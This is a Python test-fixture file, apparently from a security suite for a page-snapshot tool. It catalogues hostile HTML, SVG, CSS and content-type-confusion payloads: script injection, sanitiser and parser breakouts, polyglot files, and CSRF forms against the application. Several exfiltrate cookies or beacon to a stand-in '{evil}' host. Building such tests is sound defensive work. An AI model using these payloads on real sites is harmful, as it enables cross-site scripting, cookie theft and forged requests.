"""What a hostile page may try when its snapshot is looked at. A table: one attack a line.

`{evil}` is another origin that counts who asks, `{app}` the application, `{other}` another snapshot's id. Each
address of `{evil}` carries the attack's name, so that a hit tells who got through. `.go` elements are clicked.
"""

from __future__ import annotations

from dataclasses import dataclass, field

#: Says by every way a script has that it ran.
RUN = "fetch('{evil}/ran');new Image().src='{evil}/ran-img';console.log('PWNED');alert('PWNED');top.ran=1"
SHIFT = "+ADw-script+AD4-fetch('{evil}/ran')+ADw-/script+AD4-"


@dataclass(frozen=True)
class Attack:
    name: str
    page: str | bytes
    mime: str = "text/html; charset=utf-8"
    files: dict[str, tuple[str | bytes, str]] = field(default_factory=dict)  # by path: body, Content-Type
    drawn: bool = False  # made by script while it is captured: with the browser engine only
    #: Served bare, it gets out of a Chromium of today: what the control shows.
    loud: bool = True


def tag(name: str, markup: str, **told: object) -> Attack:
    return Attack(name, f"<!DOCTYPE html><title>{name}</title><p>正文</p>{markup}", **told)  # type: ignore[arg-type]


def drawn(name: str, script: str) -> Attack:
    return tag(name, f"<div id=d></div><script>{script}</script>", drawn=True, loud=False)


SCRIPTS = (
    tag("script", f"<script>{RUN}</script>"),
    tag("script-src", "<script src='{evil}/s.js'></script>"),
    tag("event-handlers", f"""<img src=x onerror="{RUN}"><body onload="{RUN}" onpageshow="{RUN}"><details open ontoggle="{RUN}">
        <input autofocus onfocus="{RUN}"><video onloadstart="{RUN}" src=x></video><svg onload="{RUN}"></svg>"""),
    tag("javascript-link", f"""<a class=go href="javascript:{RUN}">a</a><a class=go href=" java&#10;script:{RUN}">b</a>
        <a class=go target=_top href="javascript:{RUN}">c</a>"""),
    tag("javascript-frame", f"""<iframe src="javascript:{RUN}"></iframe><object data="javascript:{RUN}"></object>
        <embed src="javascript:{RUN}">"""),
    tag("data-frame", f"""<iframe src="data:text/html,<script>{RUN}</script>"></iframe>"""),
    tag("data-link", f"""<a class=go href="data:text/html,<script>{RUN}</script>">a</a>""", loud=False),
    tag("srcdoc", f"""<iframe srcdoc="<script>{RUN.replace('top.', 'parent.')}</script><img src='{{evil}}/srcdoc'>"></iframe>"""),
    tag("srcdoc-quoted-twice", """<iframe srcdoc="<iframe srcdoc='&lt;img src={evil}/twice&gt;&lt;script&gt;fetch(&quot;{evil}/twice-ran&quot;)&lt;/script&gt;'></iframe>"></iframe>"""),
    tag("srcdoc-sandbox-lifted", f"""<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation allow-forms allow-popups"
        srcdoc="<script>{RUN}</script>"></iframe>"""),
    tag("shadow-template", f"""<div><template shadowrootmode=open><script>{RUN}</script><img src="{{evil}}/shadow" onerror="{RUN}">
        <style>*{{background:url({{evil}}/shadow-css)}}</style><link rel=stylesheet href="{{evil}}/shadow.css"></template></div>"""),
    tag("shadow-in-template", """<template><div><template shadowrootmode=open><img src="{evil}/in-template"></template></div></template>
        <div><template shadowrootmode=closed><iframe srcdoc="<img src={evil}/closed-srcdoc>"></iframe></template></div>"""),
    tag("svg-script", f"""<svg><script>{RUN}</script><script href="{{evil}}/s.js"/></svg>"""),
    tag("svg-animate-href", f"""<svg><a class=go><text y=20>x</text><animate attributeName=href values="javascript:{RUN}"/></a>
        <set attributeName=onclick to="{RUN}"/></svg>""", loud=False),
    tag("math-namespace", f"""<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={{evil}}/math onerror=1&gt;"><script>{RUN}</script>"""),
    tag("svg-style-confusion", """<svg></p><style><a id="</style><img src={evil}/svg-style onerror=1>">"""),
    tag("noscript-breakout", """<noscript><p title="</noscript><img src={evil}/noscript onerror=1>"></p></noscript>"""),
    tag("textarea-breakout", """<textarea><img title="</textarea><img src={evil}/textarea>"></textarea>"""),
    tag("title-breakout", """<svg><title><style></title><img src={evil}/title></style></title></svg>"""),
    tag("style-breakout", """<style>a{content:"</style><img src={evil}/style onerror=1>"}</style>
        <style>a{content:"\\3c/style>\\3cimg src={evil}/style-escaped>"}</style>"""),
    tag("comment-breakout", """<!--><img src={evil}/comment>--><!-- --!><img src={evil}/comment-bang><!--<!-- --><img src={evil}/comment-nest>
        <![CDATA[><img src={evil}/cdata>]]><?x ><img src={evil}/pi>"""),
    tag("raw-text", """<xmp><p title="</xmp><img src={evil}/xmp>"></xmp><noembed></noembed><img src={evil}/noembed>
        <iframe><p title="</iframe><img src={evil}/iframe-text>"></iframe><plaintext><img src={evil}/plain>"""),
    tag("select-and-table", """<select><style></select><img src={evil}/select></style></select>
        <table><style></table><img src={evil}/table></style><tr><td><img src={evil}/cell></table>"""),
    tag("attribute-names", """<img/src="{evil}/slash"/onerror=1><img src={evil}/tick`x=`><p ="><img src={evil}/equals>">
        <img src="x" alt="``onerror=fetch('{evil}/grave')">"""),
    tag("nested-forms", """<form id=a><div></form><form action="{evil}/nested"><button class=go>x</button><input name=q value=1></form></div>"""),
    tag("nul-and-controls", """<scr\x00ipt>fetch('{evil}/nul')</scr\x00ipt><img src="{evil}/\x01ctl"><i\x00mg src={evil}/nulimg>"""),
    tag("deep", "<b>" * 600 + "<img src={evil}/deep>" + f"<script>{RUN}</script>"),
    Attack("utf-7", f"<meta charset=utf-7><title>u</title>{SHIFT}", "text/html", loud=False),
    Attack("iso-2022", b"<meta charset=iso-2022-jp><img alt='\x1b$B' title='><img src={evil}/iso onerror=1>\x1b(B'>", "text/html", loud=False),
    Attack("utf-16-hidden", f"<script>{RUN}</script>".encode("utf-16"), "text/html"),
    Attack("no-type", f"<html><script>{RUN}</script><img src='{{evil}}/no-type'>", "", loud=False),
    Attack("xhtml", f"""<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script>{RUN}</script></head><body><img src="{{evil}}/xhtml"/>
        <svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg></body></html>""".replace("&", "&amp;"), "application/xhtml+xml"),
    Attack("xslt-page", """<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{evil}/x.xsl"?><a>文</a>""", "application/xml", loud=False),
    Attack("feed", """<?xml version="1.0"?><rss><channel><title>&lt;script&gt;</title><html xmlns="http://www.w3.org/1999/xhtml"><script>fetch('{evil}/feed')</script></html></channel></rss>""", "application/rss+xml", loud=False),
    Attack("text-that-is-html", f"<html><script>{RUN}</script><img src={{evil}}/text>", "text/plain", loud=False),
    Attack("json-that-is-html", f"<html><script>{RUN}</script>", "application/json", loud=False),
    Attack("multipart", f"--x\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>\r\n--x--", "multipart/x-mixed-replace; boundary=x", loud=False),
    Attack("mhtml", f"MIME-Version: 1.0\nContent-Type: text/html\n\n<script>{RUN}</script>", "multipart/related", loud=False),
)  # fmt: skip

REQUESTS = (
    tag("images", """<img src="{evil}/img"><img srcset="{evil}/set 1x, {evil}/set2 2x"><picture><source srcset="{evil}/source"><img></picture>
        <input type=image src="{evil}/input"><img src="//{evil-host}/schemeless"><img src="\\\\{evil-host}/backslash"><img lowsrc="{evil}/low" dynsrc="{evil}/dyn">
        <img loading=eager data-src="{evil}/data" src="ht&#9;tp://{evil-host}/tabbed"><body background="{evil}/body"><table background="{evil}/table"><tr><td background="{evil}/td">"""),
    tag("media", """<video src="{evil}/v" autoplay muted poster="{evil}/poster"></video><audio src="{evil}/a" autoplay></audio><video autoplay muted><source src="{evil}/vs">
        <track default src="{evil}/track"></video><bgsound src="{evil}/bg">"""),
    tag("css-url", """<style>p{background:url({evil}/bg)} p::before{content:url("{evil}/content")} body{cursor:url({evil}/cursor),auto}
        @font-face{font-family:x;src:url({evil}/font)} p{font-family:x;list-style:url({evil}/list);mask:url({evil}/mask);border-image:url({evil}/border)}
        p{background:image-set("{evil}/is" 1x);--v:url({evil}/var);background-image:var(--v);filter:url({evil}/filter#f);shape-outside:url({evil}/shape)}
        p{background:u\\72l({evil}/escaped);background:URL({evil}/upper);background:url({evil}/unclosed</style>"""),
    tag("css-import", """<style>@import url({evil}/i1);@import "{evil}/i2" layer(x);@\\69mport "{evil}/i3";</style><style>@import/**/"{evil}/i4";</style>
        <style>@charset "x";@namespace url({evil}/ns);@import url(data:text/css,@import%20url\\({evil}/i5\\));</style>"""),
    tag("style-attribute", """<p style="background:url({evil}/attr)"><p style="background:\\75rl({evil}/attr2)"><p style='background:url("{evil}/attr3'>
        <div data-bg="{evil}/databg" data-background="url({evil}/databg2)">"""),
    tag("links", """<link rel=stylesheet href="{evil}/css"><link rel=icon href="{evil}/icon"><link rel=preload as=image href="{evil}/preload"><link rel=prefetch href="{evil}/prefetch">
        <link rel=modulepreload href="{evil}/module"><link rel=prerender href="{evil}/prerender"><link rel=preconnect href="{evil}"><link rel=dns-prefetch href="{evil}">
        <link rel=manifest href="{evil}/manifest"><link rel=import href="{evil}/import"><link rel=stylesheet href="data:text/css,@import '{evil}/datacss'">
        <link rel="alternate stylesheet" title=x href="{evil}/alt"><link rel=apple-touch-icon href="{evil}/touch"><link rel=preload as=style onload="this.rel='stylesheet'" href="{evil}/late">"""),
    tag("speculation", """<script type=speculationrules>{"prerender":[{"source":"list","urls":["{evil}/speculate"]}],"prefetch":[{"source":"list","urls":["{evil}/speculate2"]}]}</script>""", loud=False),
    tag("ping", """<a class=go href="#x" ping="{evil}/ping">a</a><a class=go href="{evil}/out" ping="{evil}/ping2" target=_self>b</a>
        <img attributionsrc="{evil}/attr" src=x>"""),
    tag("forms", """<form action="{evil}/form" method=post><input name=q value=1><button class=go>x</button></form>
        <form><button class=go formaction="{evil}/formaction" formmethod=post>x</button></form><button class=go form=f formaction="{evil}/by-id">x</button><form id=f></form>
        <form action="{evil}/image"><input class=go type=image alt=go></form><form action="{evil}/isindex"><input autofocus name=q></form>"""),
    tag("embeds", """<object data="{evil}/object"></object><embed src="{evil}/embed"><applet archive="{evil}/jar" code=x></applet><object classid="{evil}/classid" codebase="{evil}/"></object>
        <iframe src="{evil}/iframe"></iframe><frame src="{evil}/frame"><portal src="{evil}/portal"></portal><fencedframe src="{evil}/fenced"></fencedframe>"""),
    tag("frameset", """<frameset cols=*><frame src="{evil}/frameset"></frameset>""", loud=False),
    tag("svg-references", """<svg width=50 height=50><image href="{evil}/image" width=9 height=9 /><image xlink:href="{evil}/xlink" width=9 height=9 /><use href="{evil}/use.svg#a"/>
        <rect fill="url({evil}/fill#x)" filter="url({evil}/filter#x)" mask="url({evil}/mask#x)" width=9 height=9 /><filter id=f><feImage href="{evil}/fe"/></filter>
        <foreignObject width=9 height=9><img src="{evil}/foreign"><iframe src="{evil}/foreign-frame"></iframe></foreignObject>
        <style>*{{background:url({evil}/svgcss)}}</style><a class=go href="{evil}/svga"><text y=20>x</text></a></svg>""".replace("{{", "{").replace("}}", "}")),
    tag("base", """<base href="{evil}/base/"><img src="relative"><link rel=stylesheet href=rel.css><a class=go href="rel-link">x</a><form action="send"><button class=go>x</button></form>"""),
    tag("template-and-noscript", """<template><img src="{evil}/template"></template><noscript><img src="{evil}/noscript"><link rel=stylesheet href="{evil}/noscript.css"></noscript>""", loud=False),
    tag("csp-by-meta", """<meta http-equiv=Content-Security-Policy content="default-src *; report-uri {evil}/report; img-src *"><meta http-equiv=x-dns-prefetch-control content=on>
        <img src="{evil}/csp-img">"""),
    tag("refresh-headers", """<meta http-equiv=set-cookie content="session=stolen"><meta http-equiv=Link content="<{evil}/link>; rel=preload; as=image"><meta http-equiv=Refresh content="1;{evil}/late">
        <meta name=referrer content=unsafe-url><img src="{evil}/referrer">"""),
    tag("web-rtc-names", """<a href="{evil}/x" class=go target=_top>top</a><a class=go target=evil href="{evil}/named">named</a><a class=go target=_parent href="{evil}/parent">p</a>
        <map name=m><area class=go shape=rect coords=0,0,50,50 href="{evil}/area" target=_top></map><img usemap=#m width=50 height=50 src=x>"""),
    tag("download-link", """<a class=go download href="{evil}/download">d</a><a class=go download="x.exe" href="data:application/octet-stream,MZ">d</a><a class=go href="blob:{app}/x">b</a>
        <a class=go href="file:///etc/passwd">f</a><a class=go href="view-source:{evil}/vs">v</a><a class=go href="chrome://settings">c</a>""", loud=False),
)  # fmt: skip

APPLICATION = (
    tag("api-get", """<img src="{app}/api/links"><script src="{app}/api/links"></script><iframe src="{app}/api/links"></iframe><link rel=stylesheet href="{app}/api/links">"""),
    tag("api-post", """<form action="{app}/add" method=post enctype=text/plain><input name=urls value="{evil}/planted"><button class=go>x</button></form>
        <form action="/add" method=post><input name=urls value="{evil}/planted2"><button class=go>x</button></form><script>fetch('/add',{method:'POST',body:'urls=x'})</script>"""),
    tag("other-snapshot", """<iframe src="{app}/view/{other}"></iframe><img src="{app}/view/{other}/r?u=http%3A%2F%2Fx%2F"><iframe src="/snapshot/{other}"></iframe><img src="/view/{other}/screenshot">
        <object data="/download/{other}"></object><embed src="/view/{other}"><link rel=stylesheet href="/view/{other}/r?u=x"><a class=go href="/snapshot/{other}" target=_top>x</a>"""),
    tag("application-pages", """<iframe src="/"></iframe><iframe src="{app}/trash"></iframe><a class=go href="{app}/" target=_top>x</a><a class=go href="/trash">y</a><img src="/icon/{other}?u=x">"""),
    tag("service-worker", """<script>navigator.serviceWorker.register('/view/x/r?u=sw.js').then(()=>fetch('{evil}/sw'))</script>"""),
    tag("top-navigation", """<meta http-equiv=refresh content="0;url={evil}/refresh"><script>top.location='{evil}/top';window.open('{evil}/open');parent.location='{evil}/parent'</script>"""),
    tag("refresh-javascript", f"""<meta http-equiv=refresh content="0;url=javascript:{RUN}"><meta http-equiv=refresh content="0;url=data:text/html,<script>{RUN}</script>">""", loud=False),
    tag("storage", """<script>localStorage.stolen=document.cookie;caches.open('x');indexedDB.open('x');fetch('{evil}/cookie?'+document.cookie)</script>"""),
    tag("post-message", """<script>top.postMessage('x','*');new BroadcastChannel('x').postMessage('y');new SharedWorker('{evil}/worker');navigator.sendBeacon('{evil}/beacon')</script>""", loud=False),
    tag("web-socket", """<script>new WebSocket('ws://{evil-host}/socket');new EventSource('{evil}/events');new RTCPeerConnection({iceServers:[{urls:'stun:{evil-host}'}]}).createDataChannel('x')</script>"""),
    tag("click-overlay", """<style>html{position:fixed;inset:0;z-index:2147483647}</style><dialog open class=go>x</dialog><button class=go popovertarget=p>x</button><div popover id=p>x</div>
        <form><button class=go accesskey=a autofocus onclick="fetch('{evil}/click')">x</button></form>"""),
)  # fmt: skip

#: Trees that no parser would make, written down by the browser engine and read again by another parser.
DRAWN = (
    drawn("style-text", "const s=document.createElement('style');s.textContent='</style><img src={evil}/style-text onerror=1>';d.append(s)"),
    drawn("svg-style-text", "const n='http://www.w3.org/2000/svg',g=document.createElementNS(n,'svg'),s=document.createElementNS(n,'style');s.textContent='</style></svg><img src={evil}/svg-style-text>';g.append(s);d.append(g)"),
    drawn("script-text", "const s=document.createElement('noscript');s.textContent='</noscript><img src={evil}/noscript-text>';d.append(s)"),
    drawn("xmp-text", "for(const t of ['xmp','noembed','noframes','iframe','plaintext','textarea','title']){const s=document.createElement(t);s.textContent='</'+t+'><img src={evil}/'+t+'-text>';d.append(s)}"),
    drawn("comment-text", "d.append(document.createComment('--!><img src={evil}/comment-text>'),document.createComment('><img src={evil}/comment-text2>'))"),
    drawn("template-text", "const t=document.createElement('template');t.setAttribute('shadowrootmode','open');t.content.append(Object.assign(document.createElement('img'),{src:'{evil}/template-text'}));d.append(t)"),
    drawn("shadow-built", "const r=d.attachShadow({mode:'closed'});r.innerHTML='<style>p{background:url({evil}/shadow-built)}</style><p>影</p><img src={evil}/shadow-img><iframe srcdoc=\"<img src={evil}/shadow-srcdoc>\"></iframe>'"),
    drawn("adopted-built", "const s=new CSSStyleSheet();s.replaceSync('p{background:url({evil}/adopted);--x:\"</style><img src={evil}/adopted-out>\"} p::before{content:\"</style><img src={evil}/adopted-content>\"}');document.adoptedStyleSheets=[s]"),
    drawn("insert-rule", "const s=document.createElement('style');document.head.append(s);s.sheet.insertRule('p{content:\"</style><img src={evil}/inserted>\";background:url({evil}/inserted-bg)}')"),
    drawn("attribute-built", "const i=document.createElement('img');i.setAttribute('alt','\"><img src={evil}/attribute>');i.setAttribute('src','{evil}/built');i.setAttribute('onerror',\"fetch('{evil}/built-ran')\");d.append(i)"),
    drawn("frame-built", "const f=document.createElement('iframe');d.append(f);f.contentDocument.open();f.contentDocument.write('<base href={evil}/><img src=framed><script>parent.x=1<\\/script><style>p{background:url({evil}/framed-css)}</style>');f.contentDocument.close()"),
    drawn("canvas-built", "const c=document.createElement('canvas');c.setAttribute('onclick',\"fetch('{evil}/canvas')\");c.className='go';c.toDataURL=()=>'{evil}/canvas-url\" onerror=\"alert(1)';d.append(c);HTMLCanvasElement.prototype.toDataURL=()=>'{evil}/canvas-proto'"),
    drawn("blob-frame", "const f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<script>fetch(\"{evil}/blob\")<\\/script><img src={evil}/blob-img>'],{type:'text/html'}));d.append(f)"),
    drawn("lying-prototypes", "Object.defineProperty(Element.prototype,'outerHTML',{get(){return '<img src={evil}/lie>'}});Object.defineProperty(Element.prototype,'innerHTML',{get(){return '<script>fetch(`{evil}/lie2`)<\\/script>'}});XMLSerializer.prototype.serializeToString=()=>'<img src={evil}/lie3>';Document.prototype.querySelectorAll=()=>{throw 1};Array.prototype.join=()=>'<img src={evil}/lie4>'"),
    drawn("base-built", "const b=document.createElement('base');b.href='{evil}/based/';document.head.prepend(b);d.innerHTML='<img src=relative-built>'"),
    drawn("form-built", "d.innerHTML='<form action={evil}/form-built><input name=q><button class=go>x</button></form>';d.querySelector('input').value='\"><img src={evil}/form-value>'"),
)  # fmt: skip

PAGES = (*SCRIPTS, *REQUESTS, *APPLICATION, *DRAWN)

_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50" %s>%s</svg>"""
#: Things of a page, opened by themselves as documents: name, body, type its server told.
THINGS: tuple[tuple[str, bytes, str], ...] = tuple(
    (name, body.encode() if isinstance(body, str) else body, mime)
    for name, body, mime in (
        ("svg-script.svg", _SVG % (f'onload="{RUN}"', f"<script>{RUN}</script><script href='{{evil}}/s.js'/>"), "image/svg+xml"),
        ("svg-foreign.svg", _SVG % ("", "<foreignObject width='50' height='50'><body xmlns='http://www.w3.org/1999/xhtml'><img src='{evil}/foreign'/>"
                                        "<iframe src='{evil}/frame'/><script>fetch('{evil}/ran')</script></body></foreignObject>"), "image/svg+xml"),
        ("svg-outside.svg", _SVG % ("", "<image href='{evil}/image'/><use href='{evil}/use.svg#a'/><style>@import '{evil}/css'; *{fill:url({evil}/fill#a)}</style>"
                                        "<a xlink:href='javascript:alert(1)'><text y='20'>x</text></a>"), "image/svg+xml"),
        ("svg-entities.svg", "<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM '{evil}/entity'><!ENTITY y '<script xmlns=\"http://www.w3.org/2000/svg\">fetch(\"{evil}/ran\")</script>'>]>"
                             + _SVG % ("", "&x;&y;"), "image/svg+xml"),
        ("svg-xslt.svg", "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{evil}/x.xsl'?><?xml-stylesheet href='{evil}/x.css'?>" + _SVG % ("", ""), "image/svg+xml"),
        ("svg-namespaced.svg", "<x:svg xmlns:x='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml'><h:script>fetch('{evil}/ran')</h:script><h:img src='{evil}/img'/>"
                               "<x:script>fetch('{evil}/ran')</x:script><h:iframe srcdoc='&lt;img src={evil}/f&gt;'/></x:svg>", "image/svg+xml"),
        ("svg-as-text.svg", _SVG % (f'onload="{RUN}"', ""), "text/plain"),
        ("html-as-image.png", f"<html><script>{RUN}</script><img src='{{evil}}/img'>", "image/png"),
        ("html-as-css.css", f"<html><script>{RUN}</script>*{{background:url({{evil}}/css)}}", "text/css"),
        ("gif-and-script.gif", f"GIF89a/*<html><script>{RUN}</script>*/=1", "image/gif"),
        ("bmp-and-html.bmp", f"BM<html><script>{RUN}</script>", "text/html"),
        ("webm-and-html.webm", b"\x1aE\xdf\xa3<html><script>alert(1)</script>", "video/webm"),
        ("script.js", RUN, "text/javascript"),
        ("hint.ico", f"<html><script>{RUN}</script>", "image/x-icon"),
    )
)  # fmt: skip
